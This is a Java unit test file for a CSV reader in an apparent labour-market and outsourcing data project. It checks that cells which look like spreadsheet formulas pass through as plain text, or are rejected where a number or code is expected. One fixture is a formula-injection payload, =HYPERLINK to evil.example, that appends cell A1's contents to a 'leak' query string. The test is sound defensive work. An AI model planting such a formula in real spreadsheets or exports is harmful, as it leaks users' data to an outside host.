package ma.observatory.csv;

import static ma.observatory.csv.CsvTestSupport.LABOUR_FORCE;
import static ma.observatory.csv.CsvTestSupport.LF_HEADER;
import static ma.observatory.csv.CsvTestSupport.geo;
import static ma.observatory.csv.CsvTestSupport.lines;
import static ma.observatory.csv.CsvTestSupport.readAll;
import static ma.observatory.csv.CsvTestSupport.readLabourForce;
import static ma.observatory.csv.CsvTestSupport.writeUtf8;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import ma.observatory.employment.LabourForceRecord;
import ma.observatory.geo.GeoReference;
import ma.observatory.outsourcing.RelocationDataset;
import ma.observatory.outsourcing.RelocationEvent;

/**
 * Text that a spreadsheet would run as a formula is only text to the reader: it comes through
 * exactly as written (the workbook writes it as a text cell; a CSV the job writes goes through
 * {@link SpreadsheetSafeText}), and where a number or a code is expected it is a rejected row
 * showing the value as it was.
 */
class SafeCellsTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Office des changes\")";

    @TempDir
    Path dir;

    @Test
    void formulaLookingTextComesThroughUnchanged() {
        writeUtf8(dir, LABOUR_FORCE, lines(LF_HEADER,
                "2024,MA,total,total,15+,100,50,45,5,," + GeneratedCsv.quote(HYPERLINK),
                "2024,MA,urban,total,15+,60,30,27,3,,-Ambiguous",
                "2024,MA,rural,total,15+,40,20,18,2,,+212 522 00 00 00",
                "2024,MA,total,male,15+,50,25,20,5,,@SUM(A1:A9)",
                "2024,MA,total,female,15+,50,25,20,5,,\"=1+1;=2+2\""));

        List<Parsed<LabourForceRecord>> parsed = readLabourForce(dir);

        assertThat(parsed).noneMatch(Parsed::rejected);
        assertThat(parsed).extracting(p -> p.item().source()).containsExactly(HYPERLINK, "-Ambiguous",
                "+212 522 00 00 00", "@SUM(A1:A9)", "=1+1;=2+2");
    }

    @Test
    void relocationClientAndProviderComeThroughUnchanged() {
        writeUtf8(dir, "outsourcing/relocations.csv", lines(
                "announced_on,effective_on,client,provider,origin_country,destination_country,jobs,status,"
                        + "origin_city,destination_city,language,source",
                "2024-01-10,2024-06-01,-Ambiguous,@Outsource SA,FR,MA,120,effective,Lyon,Casablanca,fr,"
                        + GeneratedCsv.quote(HYPERLINK),
                "2024-02-01,,+Plus Conseil,=Contoso,BE,MA,40,announced,,Rabat,nl,HCP"));
        GeoReference geo = geo();

        List<Parsed<RelocationEvent>> parsed = readAll(new CsvItemReader<>("relocations", dir,
                RelocationDataset.INSTANCE, row -> RelocationDataset.map(row, geo)));

        assertThat(parsed).noneMatch(Parsed::rejected);
        assertThat(parsed.get(0).item().client()).isEqualTo("-Ambiguous");
        assertThat(parsed.get(0).item().provider()).isEqualTo("@Outsource SA");
        assertThat(parsed.get(0).item().source()).isEqualTo(HYPERLINK);
        assertThat(parsed.get(1).item().client()).isEqualTo("+Plus Conseil");
        assertThat(parsed.get(1).item().provider()).isEqualTo("=Contoso");
    }

    @Test
    void formulaWhereANumberOrACodeIsExpectedIsARejectedRowShowingTheValueAsWritten() {
        writeUtf8(dir, LABOUR_FORCE, lines(LF_HEADER,
                "2024,MA,total,total,15+,=1+1,50,45,5,,HCP",
                "2024," + GeneratedCsv.quote(HYPERLINK) + ",total,total,15+,100,50,45,5,,HCP",
                "2024,MA,total,total,15+,100,50,45,5,@SUM(A1),HCP"));

        List<Parsed<LabourForceRecord>> parsed = readLabourForce(dir);

        assertThat(parsed).allMatch(Parsed::rejected);
        assertThat(parsed.get(0).rejects()).singleElement().satisfies(p -> {
            assertThat(p.column()).isEqualTo("population");
            assertThat(p.value()).isEqualTo("=1+1");
        });
        assertThat(parsed.get(1).rejects()).singleElement().satisfies(p -> {
            assertThat(p.column()).isEqualTo("geo");
            assertThat(p.value()).isEqualTo(HYPERLINK);
        });
        assertThat(parsed.get(2).rejects()).singleElement().satisfies(p -> {
            assertThat(p.column()).isEqualTo("underemployed");
            assertThat(p.value()).isEqualTo("@SUM(A1)");
        });
    }
}
